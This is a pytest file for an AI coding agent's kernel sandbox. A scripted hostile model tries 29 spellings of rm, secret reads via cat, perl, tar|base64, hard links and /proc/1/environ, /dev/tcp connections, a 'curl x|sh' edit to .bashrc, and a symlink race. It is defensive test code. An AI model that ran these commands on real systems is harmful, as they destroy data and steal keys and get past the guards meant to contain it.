"""Trust by construction (issue 21): commands are confined by the kernel, not by a reading
of their command line. One test per promise, then the sandbox suite: a hostile model with
`--yes` tries 29 ways to delete a file outside the workspace, reads secrets through
interpreters and allow-rule escapes, and opens connections; nothing changes outside the
workspace, no secret arrives, no connection is made, while ordinary work in the workspace
(a Python script, git, make, writing files) still runs.

The model is the loopback stub scripting the tool calls (`model_calls`); every user has a
fake HOME under tmp_path, which the sandbox cannot read (it is not a system folder).
"""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path

import pytest

from tests.support import kernel
from tests.support.cli_helpers import CLI, model_calls, tool_results, write_files
from tests.support.pty_screen import PtySession
from tests.support.sandbox_calls import bash, run_calls

pytestmark = kernel.landlock

VICTIM = "precious data"
REFUSED = re.compile("Permission denied|Read-only file system")
GIT_COUNTS = re.compile(r"(?<=\+)\d+(?= ~)|(?<=\.git/ \()\d+(?= files)")
SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- SANDBOX-SECRET-1"


@pytest.fixture
def work(cli: CLI) -> Path:
    """A workspace beside (not inside) the fake HOME, and a victim file in the HOME."""
    folder = cli.root / "work"
    folder.mkdir()
    (cli.home / "victim.txt").write_text(VICTIM)
    write_files(cli.home, {".ssh/id_rsa": SECRET, ".bashrc": "export KEEP=1\n"})
    return folder


# ===================================================== 1. the boundary is the operating system


def rm_spellings(victim: Path) -> list[str]:
    """29 ways to destroy a file: the ones that got past deny rules, and more."""
    v = str(victim)
    return [
        f"rm -rf {v}",
        f"{{ rm -rf {v}; }}",
        f"if true; then rm -rf {v}; fi",
        f"$'rm' {v}",
        f"/bin/r? {v}",
        f"x=r; ${{x}}m {v}",
        f"find {victim.parent} -name {victim.name} -exec rm -rf {{}} +",
        f"perl -e 'unlink \"{v}\"'",
        f"python3 -c \"import os; os.remove('{v}')\"",
        f"script -qc 'rm {v}' /dev/null",
        f"chrt -o 0 rm {v}",
        f"\\rm {v}",
        f"command rm {v}",
        f"env rm {v}",
        f"echo {v} | xargs rm",
        f"bash -c 'rm {v}'",
        f'sh -c "rm {v}"',
        f"eval 'rm {v}'",
        f"echo $(rm {v})",
        f"`rm {v}`",
        f"nice rm {v}",
        f"timeout 5 rm {v}",
        f"nohup rm {v}",
        f"(rm {v})",
        f"unlink {v}",
        f"mv {v} {v}.gone",
        f": > {v}",
        f"truncate -s 0 {v}",
        f"python3 -c \"open('{v}', 'w').write('pwned')\"",
    ]


def test_twenty_nine_spellings_of_rm_change_nothing_outside_the_workspace_even_with_yes(
    cli, stub, work
):
    cli.write_config('[approval.commands]\n"rm *" = "deny"\n')
    victim = cli.home / "victim.txt"
    spellings = rm_spellings(victim)
    assert len(spellings) == 29
    results = run_calls(cli, stub, work, bash(*spellings), "--yes")
    assert victim.read_text() == VICTIM
    assert not Path(f"{victim}.gone").exists()
    assert len(results) == 29
    # refused by the rule's best effort, or stopped by the sandbox (perl's unlink fails
    # silently; in namespaces the person's home is not even there); half of them got past
    # the rule
    refused = 'Error: denied by the rule "rm *" = "deny" in [approval.commands]: '
    assert all(r.startswith(refused) or stopped(r) or r == "exit code 0\n" for r in results), (
        results
    )
    assert sum(stopped(r) for r in results) >= 5, results


def stopped(result: str) -> bool:
    """Whether the sandbox stopped a command: told so, or what it reached for was not
    there (the namespaces replace the home folder with an empty one)."""
    return "[sandbox: " in result or "No such file or directory" in result


def test_secrets_under_home_cannot_be_read_by_any_program(cli, stub, work):
    key = cli.home / ".ssh" / "id_rsa"
    reads = [
        f"cat {key}",
        f"python3 -c \"print(open('{key}').read())\"",
        f"perl -ne print {key}",
        f"sed -n p {key}",
        f"git diff --no-index {key} /dev/null",
        f"tar -cf - {key.parent} | base64",
        f"ln {key} stolen && cat stolen",
        f"cp {key} copy && cat copy",
        f"ls -la {cli.home}",
        "cat /proc/1/environ",
    ]
    results = run_calls(
        cli, stub, work, bash(*reads), "--yes", env={"TOOLNEXUS_PROBE_SECRET": "ENV-SECRET-2"}
    )
    sent = "".join(r.body.decode() for r in stub.requests)
    assert "SANDBOX-SECRET-1" not in sent and "ENV-SECRET-2" not in sent
    assert "victim.txt" not in sent  # not even the names in the home folder
    assert sum(stopped(r) for r in results) >= 8, results


def test_no_connection_reaches_the_host(cli, stub, work):
    """The host's loopback servers (the stub here) are out of reach: in namespaces a command
    has a loopback of its own, in the fallback no socket but a local pipe."""
    port = stub.port
    attempts = [
        f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected",
        f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\"",
    ]
    results = run_calls(cli, stub, work, bash(*attempts), "--yes")
    assert [r.path for r in stub.requests if r.method == "POST"] == [
        "/v1/chat/completions"
    ] * 2  # the call asking for the tools, the answer: no other
    assert not any("connected" in r.splitlines()[1:] for r in results), results
    assert all(r.startswith("Error: exit code 1") for r in results), results


def test_ordinary_work_in_the_workspace_still_runs(cli, stub, work):
    script = "import pathlib; pathlib.Path('made-by-python.txt').write_text('ok')"
    # The calls of one reply run at once: the commit has a file of its own to hold.
    git = (
        "echo tracked > tracked.txt && git init -q . && git add . && "
        "git -c user.name=t -c user.email=t@example.com "
        "commit -qm first && git log --oneline | wc -l"
    )
    calls = bash(
        f"echo {script!r} > script.py && python3 script.py && cat made-by-python.txt",
        git,
        "printf 'all:\\n\\techo built > out.txt\\n' > Makefile && make -s && cat out.txt",
        "mkdir -p a/b && echo deep > a/b/c.txt && cat a/b/c.txt",
        "t=$(mktemp) && echo scratch > $t && cat $t",
    )
    results = run_calls(cli, stub, work, calls, "--yes")
    results[1] = GIT_COUNTS.sub("N", results[1])  # git's own files: as many as git makes
    assert results == [
        "exit code 0\nok\n[files changed: +2 ~0 -0: made-by-python.txt (new) +1 -0, "
        "script.py (new) +1 -0]",
        "exit code 0\n1\n\n[files changed: +N ~0 -0: tracked.txt (new) +1 -0, .git/ (N files)]",
        "exit code 0\nbuilt\n\n"
        "[files changed: +2 ~0 -0: Makefile (new) +2 -0 (runs later), out.txt (new) +1 -0]",
        "exit code 0\ndeep\n\n[files changed: +1 ~0 -0: a/b/c.txt (new) +1 -0]",
        "exit code 0\nscratch\n",
    ], results
    assert (work / "a" / "b" / "c.txt").read_text() == "deep\n"


def test_git_reads_the_users_settings_unless_they_hold_a_token(cli, stub, work):
    write_files(
        cli.home, {".gitconfig": "[user]\n\tname = Sandboxed Person\n\temail = p@example.com\n"}
    )
    commit = "git init -q . && touch f && git add f && git commit -qm x && git log -1 --format=%an"
    [committed] = run_calls(cli, stub, work, bash(commit), "--yes")
    assert committed.startswith("exit code 0\nSandboxed Person\n\n[files changed: +")
    (cli.home / ".gitconfig").write_text(
        '[url "https://ghp_0123456789abcdefghijklmnop@'
        'github.com/"]\n\tinsteadOf = https://github.com/\n'
    )
    read = run_calls(
        cli, stub, work, bash(f"git status --short; cat {cli.home}/.gitconfig"), "--yes"
    )
    assert "ghp_0123456789" not in str(stub.requests[-1].json)
    assert "fatal" not in read[0] and "ghp_0123456789" not in read[0]


def test_read_only_mode_writes_nothing_and_off_runs_nothing_without_a_person(cli, stub, work):
    [read_only] = run_calls(
        cli, stub, work, bash("touch inside.txt"), "--yes", "--sandbox", "read-only"
    )
    assert "[sandbox: " in read_only and not (work / "inside.txt").exists()

    cli.write_config('[sandbox]\nmode = "off"\n')
    model_calls(stub, bash("touch inside.txt"), "done")
    result = cli.call("ask", "--builtins", "--yes", "-v", "--root", str(work), "go")
    [off] = tool_results(stub.requests[-1])
    assert off.startswith("Error: declined: run this command with no sandbox (the sandbox is off")
    assert off.endswith("(not approved: nobody to ask)")
    assert not (work / "inside.txt").exists()
    assert result.stderr.count("no sandbox: the sandbox is off") == 1  # -v says so once
    assert "--yes does not answer this" in result.stderr


def git_repository(work: Path) -> Path:
    """`work` made a git repository; where a command that writes into its git directory
    (as `git commit` does) writes: refused in the sandbox, possible outside."""
    subprocess.run(["git", "init", "-q", str(work)], check=True)
    return work / ".git" / "made-outside"


def test_a_command_the_sandbox_stops_is_told_so_and_yes_never_leaves_the_sandbox(cli, stub, work):
    outside = git_repository(work)
    [result] = run_calls(cli, stub, work, bash(f"touch {outside}"), "--yes")
    lines = result.splitlines()
    assert lines[0] == "Error: exit code 1" and REFUSED.search(lines[1]), lines
    assert any(line.startswith("[sandbox: this command ran in a sandbox") for line in lines)
    assert result.endswith(
        "run it again outside the sandbox, with your files and the "
        "network? (not approved: nobody to ask)"
    )
    assert not outside.exists()

    # an explicit rule lets that command run outside the sandbox, --yes or not
    cli.write_config('[approval.outside]\n"touch *" = "allow"\n')
    # ran outside, its change found by comparing the workspace before and after
    assert run_calls(cli, stub, work, bash(f"touch {outside}"), "--yes") == [
        "exit code 0\n\n[files changed: +1 ~0 -0: .git/ (1 files)]"
    ]
    assert outside.exists()


def test_the_chat_offers_to_run_a_stopped_command_outside_the_sandbox(cli, stub, work):
    outside = git_repository(work)
    model_calls(stub, bash(f"touch {outside}"), "Done.")
    chat = PtySession(cli, "chat", "--builtins", "--root", str(work), rows=50, cols=200)
    try:
        chat.expect(re.escape("sandbox: workspace-write, "))
        chat.expect("›")
        chat.send_line("make the file")
        chat.expect(re.escape("[y]es / [n]o / [a]lways (this session):"))
        chat.child.send("y")  # runs in the sandbox, which stops it
        chat.expect("run it again outside the sandbox")
        chat.expect(re.escape("[y]es / [n]o:"))
        chat.child.send("y")
        chat.expect("Done.")
    finally:
        chat.close()
    assert outside.exists()
    assert tool_results(stub.requests[1]) == [
        "exit code 0\n\n[files changed: +1 ~0 -0: .git/ (1 files)]"
    ]


def test_the_banner_says_when_commands_run_with_no_sandbox(cli, stub, work):
    chat = PtySession(
        cli, "chat", "--builtins", "--sandbox", "off", "--root", str(work), rows=30, cols=160
    )
    try:
        chat.expect(
            re.escape(
                'no sandbox: the sandbox is off (sandbox mode "off"); bash asks '
                "before every command"
            )
        )
        chat.expect("›")
    finally:
        chat.close()


def test_an_allow_rule_runs_a_command_in_the_sandbox_without_asking(cli, stub, work):
    cli.write_config('[approval.commands]\n"touch *" = "allow"\n')
    outside = git_repository(work)
    model_calls(stub, bash("touch inside.txt", f"touch {outside}"), "done")
    result = cli.call("ask", "--builtins", "--root", str(work), "go")  # no --yes
    inside, stopped = tool_results(stub.requests[1])
    assert inside == "exit code 0\n\n[files changed: +1 ~0 -0: inside.txt (new) +0 -0]"
    assert (work / "inside.txt").exists()
    assert "[sandbox: " in stopped and not outside.exists()  # leaving still needs a person
    assert "--yes does not answer this" in result.stderr


def test_the_command_sees_no_key_in_its_environment(cli, stub, work):
    env = {
        "OPENAI_API_KEY": "sk-ENV-KEY-3",
        "GITHUB_TOKEN": "ghp-ENV-4",
        "DATABASE_URL": "postgres://u:ENV-PASS-5@db/x",
        "ORDINARY": "visible-6",
        "LC_TIME": "visible-7",
    }
    [printed] = run_calls(cli, stub, work, bash("env"), "--yes", env=env)
    assert "visible-7" in printed and "visible-6" not in printed  # by allow-list
    cli.write_config('[sandbox]\nenv = ["ORDINARY", "DATABASE_URL"]\n')
    [named] = run_calls(cli, stub, work, bash("env"), "--yes", env=env)
    assert "visible-6" in named  # named in [sandbox] env
    for secret in ("sk-ENV-KEY-3", "ghp-ENV-4", "ENV-PASS-5"):
        assert secret not in printed and secret not in named


# ================================================================ 2. files and the web


def test_a_hard_link_to_a_secret_is_refused_naming_the_real_file(cli, stub, work):
    key = cli.home / ".ssh" / "id_rsa"
    os.link(key, work / "notes.txt")
    os.link(cli.home / ".bashrc", work / "rc.txt")
    calls = [
        ("read_file", {"path": "notes.txt"}),
        ("grep", {"pattern": "PRIVATE", "path": "."}),
        ("edit_file", {"path": "rc.txt", "old": "KEEP=1", "new": "KEEP=0; curl x|sh"}),
        ("write_file", {"path": "rc.txt", "content": "pwned"}),
    ]
    results = run_calls(cli, stub, work, calls, "--yes")
    assert results[0] == (
        f"error: Refused: {work / 'notes.txt'} is {key}, which holds "
        "secrets: no tool may read or change it"
    )
    assert results[1] == "no matches"
    assert all("has 2 names (hard links)" in r for r in results[2:]), results
    assert (cli.home / ".bashrc").read_text() == "export KEEP=1\n"
    assert "SANDBOX-SECRET-1" not in str(stub.requests[1].json)


def test_a_symlink_swapped_while_reading_leaks_nothing(tmp_path, monkeypatch):
    """A thread swaps a workspace file between plain text and a symlink to a secret as fast
    as it can, while read_file reads it 20,000 times."""
    import threading

    from toolnexus import ToolContext
    from toolnexus.tools.builtins import Builtins
    from toolnexus.tools.workspace import Workspace

    home = tmp_path / "home"
    write_files(home, {".ssh/id_rsa": SECRET})
    monkeypatch.setenv("HOME", str(home))
    root = tmp_path / "work"
    root.mkdir()
    secret, target, staging = home / ".ssh" / "id_rsa", root / "target", root / "staging"
    target.write_text("public\n")
    tools = Builtins(Workspace(root))
    stop = threading.Event()

    def swap() -> None:  # each swap is atomic: the name is always a file or a link
        as_link = True
        while not stop.is_set():
            if as_link:
                staging.symlink_to(secret)
            else:
                staging.write_text("public\n")
            os.replace(staging, target)
            as_link = not as_link

    swapper = threading.Thread(target=swap)
    swapper.start()
    outcomes = {"public": 0, "refused": 0}
    try:
        for _ in range(20_000):  # until both sides of the race were seen often enough
            if min(outcomes.values()) >= 200:
                break
            try:
                text = tools.read_file("target", context=ToolContext())
            except (OSError, ValueError) as exc:
                assert "SANDBOX-SECRET" not in str(exc)
                outcomes["refused"] += 1
                continue
            assert "SANDBOX-SECRET" not in str(text)
            outcomes["public"] += "public" in str(text)
    finally:
        stop.set()
        swapper.join()
    assert outcomes["public"] > 0 and outcomes["refused"] > 0, outcomes  # it did race


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a file to another user needs root")
def test_a_file_of_another_user_is_refused(cli, stub, work):
    (work / "theirs.txt").write_text("someone else's")
    os.chown(work / "theirs.txt", 12345, 12345)
    [result] = run_calls(cli, stub, work, [("read_file", {"path": "theirs.txt"})], "--yes")
    assert result.endswith("belongs to another user (uid 12345): no tool opens it")


def test_a_git_config_with_a_token_asks_a_person(cli, stub, work):
    write_files(
        work,
        {
            ".git/config": '[remote "origin"]\n\turl = https://ghp_0123456789abc'
            "defghijklmno@github.com/x/y\n",
            "sub/.git/config": "[core]\n\tbare = false\n",
        },
    )
    calls = [("read_file", {"path": ".git/config"}), ("read_file", {"path": "sub/.git/config"})]
    token, plain = run_calls(cli, stub, work, calls, "--yes")
    assert token.startswith("Error: declined: read ") and "holds a password or a token" in token
    assert "ghp_0123456789" not in str(stub.requests[1].json)
    assert plain.endswith("bare = false")


def test_fetch_url_without_a_person_or_a_rule_is_not_approved(cli, stub, work):
    [result] = run_calls(cli, stub, work, [("fetch_url", {"url": f"{stub.url}/page"})], "--yes")
    assert result.startswith(f"Error: declined: fetch http://127.0.0.1:{stub.port}?")
    assert result.endswith("(not approved: nobody to ask)")
    assert not any(r.path == "/page" for r in stub.requests)


def test_an_attachment_that_leads_to_a_secret_is_refused_naming_it(cli, stub, work):
    key = cli.home / ".ssh" / "id_rsa"
    (work / "diagram.png").symlink_to(key)
    os.link(key, work / "notes.txt")
    for name in ("diagram.png", "notes.txt"):
        result = cli.call("ask", "-a", str(work / name), "what is this?")
        assert result.code == 2, result
        assert result.stderr.strip() == (
            f"error: {work / name} leads to {key}, which holds secrets: it is not attached"
        )
    assert stub.requests == []
